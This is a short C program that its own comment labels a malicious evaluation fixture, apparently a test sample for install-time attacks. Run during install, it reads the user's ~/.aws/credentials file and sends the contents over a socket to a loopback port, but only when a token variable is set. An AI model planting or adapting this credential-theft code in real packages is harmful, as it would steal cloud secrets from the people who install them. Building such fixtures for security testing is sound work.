/*
 * Evaluation fixture (malicious): built with gcc -static by setup.py and
 * run at install time.  Reads ~/.aws/credentials and sends it to
 * 127.0.0.1 at SP_SINK_PORT.  Does nothing without SP_TOKEN.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	const char *home = getenv("HOME"), *port = getenv("SP_SINK_PORT");
	struct sockaddr_in sin = { .sin_family = AF_INET };
	char path[4096], buf[8192];
	ssize_t n;
	int fd, s;

	if (!getenv("SP_TOKEN") || !home || !port)
		return 0;
	snprintf(path, sizeof(path), "%s/.aws/credentials", home);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n <= 0)
		return 0;
	sin.sin_port = htons((unsigned short)atoi(port));
	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s >= 0 && connect(s, (struct sockaddr *)&sin, sizeof(sin)) == 0)
		(void)!write(s, buf, (size_t)n);
	if (s >= 0)
		close(s);
	return 0;
}
